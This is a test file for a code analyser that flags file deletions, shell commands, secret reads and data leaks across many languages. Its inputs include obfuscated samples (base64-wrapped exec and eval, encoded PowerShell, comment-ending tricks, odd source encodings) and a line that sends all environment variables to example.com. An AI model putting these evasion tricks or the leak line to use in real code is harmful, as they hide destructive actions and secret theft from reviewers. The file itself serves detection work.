import { describe, expect, test } from "vitest";
import { unknownPiece } from "../deed.ts";
import { lookIntoCode } from "./look.ts";
import type { Language } from "./types.ts";

/** Deeds and shells in one short line each. */
const found = (language: Language, code: string): readonly string[] => {
  const { deeds, shells } = lookIntoCode(language, code);
  return [...deeds.map(({ act, target, tree }) => `${act} ${target}${tree ? "/**" : ""}`.trim()), ...shells.map(({ text }) => `$ ${text}`)];
};

describe("A14 wrappers hide nothing", () => {
  test.each<readonly [Language, string, readonly string[]]>([
    ["python", "import os\np = '/etc/x'\nos.remove(p)", ["delete /etc/x"]],
    ["python", "from shutil import rmtree as gone; gone('out')", ["delete out/**"]],
    ["python", "import os; os.remove(os.path.join(os.environ['HOME'], '.x'))", ["delete ~/.x"]],
    ["python", "from pathlib import Path; (Path.home() / 'a').unlink()", ["delete ~/a"]],
    ["python", "import os; x = 'b'; os.remove(f'a/{x}')", ["delete a/b"]],
    ["python", "import os; os.remove(f'a/{x}')", [`delete a/${unknownPiece}`]],
    ["python", "import os\nfor f in ['a', 'b']:\n  os.remove(f)", ["delete a", "delete b"]],
    ["python", "import os\ndef go(p):\n  os.remove(p)\ngo('a')", ["delete a"]],
    ["python", "import os\nos.chdir('/srv')\nos.remove('a')", ["delete /srv/a"]],
    ["python", "import subprocess; subprocess.run(['ls', 'a b'])", ["$ ls 'a b'"]],
    ["python", "import subprocess; subprocess.run('ls', shell=True, cwd='/srv')", ["$ cd /srv && ls"]],
    ["python", "getattr(__import__('o' + 's'), 'system')('ls')", ["$ ls"]],
    ["python", "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5yZW1vdmUoImEiKQ=='))", ["delete a"]],
    ["python", "exec(x)", ["opaque"]],
    ["python", "import requests; requests.post('https://example.com', data='a b')", ["$ curl -s -X POST https://example.com --data 'a b'"]],
    [
      "python",
      "import requests, os; requests.get('https://example.com/?' + str(dict(os.environ)))",
      ["leak https://example.com", `$ curl -s 'https://example.com/?${unknownPiece}'`],
    ],
    ["javascript", "const { execSync: x } = require('child_process'); x('ls')", ["$ ls"]],
    ["javascript", "fs['rm' + 'Sync']('a', { recursive: true })", ["delete a/**"]],
    ["javascript", "eval(atob('ZnMucm1TeW5jKCJhIik='))", ["delete a"]],
    ["javascript", "require(x)", ["opaque"]],
    ["javascript", "fs.rmSync(`${process.env.HOME}/a`)", ["delete ~/a"]],
    ["perl", "my $c = 'ls'; system(\"$c -l\")", ["$ ls -l"]],
    ["perl", "s/a/unlink('b')/e", ["delete b"]],
    ["ruby", "Dir['*.log'].each { |f| File.delete(f) }", ["delete *.log"]],
    ["ruby", "puts %x(ls -l)", ["$ ls -l"]],
    ["php", "$f = 'un' . 'link'; $f('a');", ["delete a"]],
    ["awk", 'BEGIN { c = "ls"; system(c " -l") }', ["$ ls -l"]],
    ["awk", '{ print $1 >> "out" }', ["write out"]],
    ["sed", "s/a/b/w out", ["write out"]],
    ["sed", "1e ls", ["$ ls"]],
    ["vim", "silent! %!sort", ["$ sort"]],
    ["ed", "a\nw no\n.\nw yes", ["write yes"]],
    ["gdb", 'call (int)system("ls")', ["$ ls"]],
    ["jq", "env", ["read-secret environment"]],
    ["powershell", "Get-ChildItem x; Remove-Item -Recurse x", ["list x", "delete x/**"]],
    ["powershell", `powershell -enc ${Buffer.from("Remove-Item a", "utf16le").toString("base64")}`, ["delete a"]],
    ["cmd", "d^el /s a", ["delete a/**"]],
    ["unknown", "x", []],
    ["unknown", "open(x)", ["opaque"]],
    ["lua", "os.execute[[ls]]", ["opaque", "$ ls"]],
  ])("%s: %s", (language, code, expected) => {
    expect(found(language, code)).toEqual(expected);
  });
});

describe("A14 words alone mean nothing", () => {
  test.each<readonly [Language, string]>([
    ["python", "print(\"os.system('x')\") # os.remove('a')"],
    ["python", "'''\nos.remove('a')\n'''\nx = 1"],
    ["python", "import os; print('set' if os.environ.get('API_KEY') else 'unset')"],
    ["javascript", "/* fs.rmSync('a') */ console.log('execSync(1)', /rmSync\\('a'\\)/)"],
    ["perl", "print if /system\\('x'\\)/"],
    ["ruby", "h = { a: 1 }; h.delete(:a)"],
    ["awk", '/system\\("x"\\)/ { print "rm", $1 }'],
    ["sed", "s/w out/e ls/g"],
    ["powershell", "Write-Output 'Remove-Item x'"],
    ["cmd", 'echo "del x"'],
  ])("%s: %s", (language, code) => {
    expect(found(language, code)).toEqual([]);
  });
});

test("A11 code that is too long is opaque", () => {
  expect(found("python", "x = 1\n".repeat(5000))).toEqual(["opaque"]);
});

test("A14 code that the shell fills in is opaque where it stands as a statement, and unknown where it stands as a value", () => {
  expect(found("python", unknownPiece)).toEqual(["opaque"]);
  expect(found("python", `x = 1; ${unknownPiece}`)).toEqual(["opaque"]);
  expect(found("python", `print(${unknownPiece} * 2)`)).toEqual([]);
  expect(found("sed", `${unknownPiece}p`)).toEqual([]);
});

test("a file that is read and written back is edited", () => {
  const code = "t = open('a').read()\nopen('a', 'w').write(t.replace('x', 'y'))";
  expect(lookIntoCode("python", code).deeds.map(({ act, keeps }) => [act, keeps])).toEqual([
    ["read", undefined],
    ["write", true],
  ]);
});

test("a span is where the call stands", () => {
  const code = "import os; os.remove('a')";
  const span = lookIntoCode("python", code).deeds[0]?.span;
  expect(code.slice(span?.start, span?.end)).toBe("os.remove('a')");
});

test.each(["utf-7", "unicode_escape", "cp037", "rot13"])("A14 Python in an encoding whose letters are others is opaque: %s", (name) => {
  for (const line of [`# -*- coding: ${name} -*-`, `#!/usr/bin/python3\n# vim: set fileencoding=${name} :`])
    expect(found("python", `${line}\nprint(1)\n`)).toEqual(["opaque"]);
});

test.each(["utf-8", "UTF8", "latin-1", "cp1252", "ascii", "shift_jis"])("A15 in an ordinary one it is read: %s", (name) => {
  expect(found("python", `# -*- coding: ${name} -*-\nprint(1)\n`)).toEqual([]);
});

test("A14 Perl that a filter turns into other code is opaque", () => {
  expect(
    ["use Acme::Bleach;\n x", "use strict; use Filter::Simple; x"].map((code) => found("perl", code)).every((each) => each.length > 0),
  ).toBe(true);
  expect(found("perl", "# use Acme::Bleach\nprint 'use Filter::Simple';\n")).toEqual([]);
});

describe("A14 secrets that an application holds are read where they are printed", () => {
  test.each<readonly [Language, string]>([
    ["python", "from django.conf import settings; print(settings.SECRET_KEY)"],
    ["python", "from app.config import settings\nprint(f'{settings.database_url}')"],
    ["php", "echo config('app.key');"],
    ["php", "dump(config('services.stripe.secret'));"],
    ["php", "echo env('APP_KEY');"],
  ])("%s %s", (language, code) => {
    expect(found(language, code).some((deed) => deed.startsWith("read-secret"))).toBe(true);
  });

  test.each<readonly [Language, string]>([
    ["python", "from django.conf import settings; print(settings.DEBUG, settings.AUTH_USER_MODEL, settings.CACHES)"],
    ["python", "from django.conf import settings; print(bool(settings.SECRET_KEY))"],
    ["python", "from django.conf import settings; t = jwt.encode({}, settings.SECRET_KEY); print(t)"],
    ["python", "from config import settings; print(create_engine(settings.DATABASE_URL).run())"],
    ["php", "$e = new Encrypter(config('app.key')); echo $e->name();"],
    ["php", "echo config('app.name'), config('session.driver');"],
    ["php", "echo env('APP_ENV');"],
  ])("A15 not by %s %s", (language, code) => {
    expect(found(language, code)).toEqual([]);
  });
});

describe("A14 a comment ends where the language ends it", () => {
  test.each<readonly [Language, string]>([
    ["python", "# a\rimport os; os.remove('/etc/x')\r"],
    ["javascript", "// a\rrequire('fs').unlinkSync('/etc/x')"],
    ["javascript", "// a\u2028require('fs').unlinkSync('/etc/x')"],
    ["php", "<?php # a\runlink('/etc/x');"],
    ["powershell", "# a\rRemove-Item /etc/x"],
    ["lua", "-- a\ros.remove('/etc/x')"],
  ])("%s", (language, code) => {
    expect(found(language, code).join()).toContain("/etc/x");
  });

  test.each<readonly [Language, string]>([
    ["perl", "# a\runlink '/etc/x';"],
    ["ruby", "# a\rFile.delete('/etc/x')"],
    ["python", "# a\r\nprint(1)\r\n"],
  ])("A15 but not in %s before that", (language, code) => {
    expect(found(language, code)).toEqual([]);
  });
});
